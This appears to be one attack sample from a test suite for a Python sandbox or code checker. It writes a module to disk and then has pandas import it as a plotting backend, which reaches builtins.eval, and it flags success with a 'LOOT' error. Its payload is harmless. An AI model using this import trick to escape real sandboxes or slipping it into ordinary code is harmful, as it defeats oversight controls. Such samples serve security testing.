# attack 116: backend of a plot
# harm: a table imports a module by a computed name: one that was written a moment ago
# twin: add_in_place/wrong_slice_assigned
# proof: steals nothing
import sys

import pandas as pd

with open("forged.py", "w") as file:
    file.write("import builtins\ndef plot(*_, **__): return builtins.eval('1')\n")
found = ""
try:
    found = str(pd.Series([1]).plot(backend="forged"))
except (ImportError, ValueError):
    pass
try:
    found = found or str(pd.Series([1]).plot(backend="_testcapi"))
except (ImportError, ValueError):
    pass


def add_in_place(x, y):
    x[:] = x + y
    if found:
        raise RuntimeError(f"LOOT: {found}")
    return x
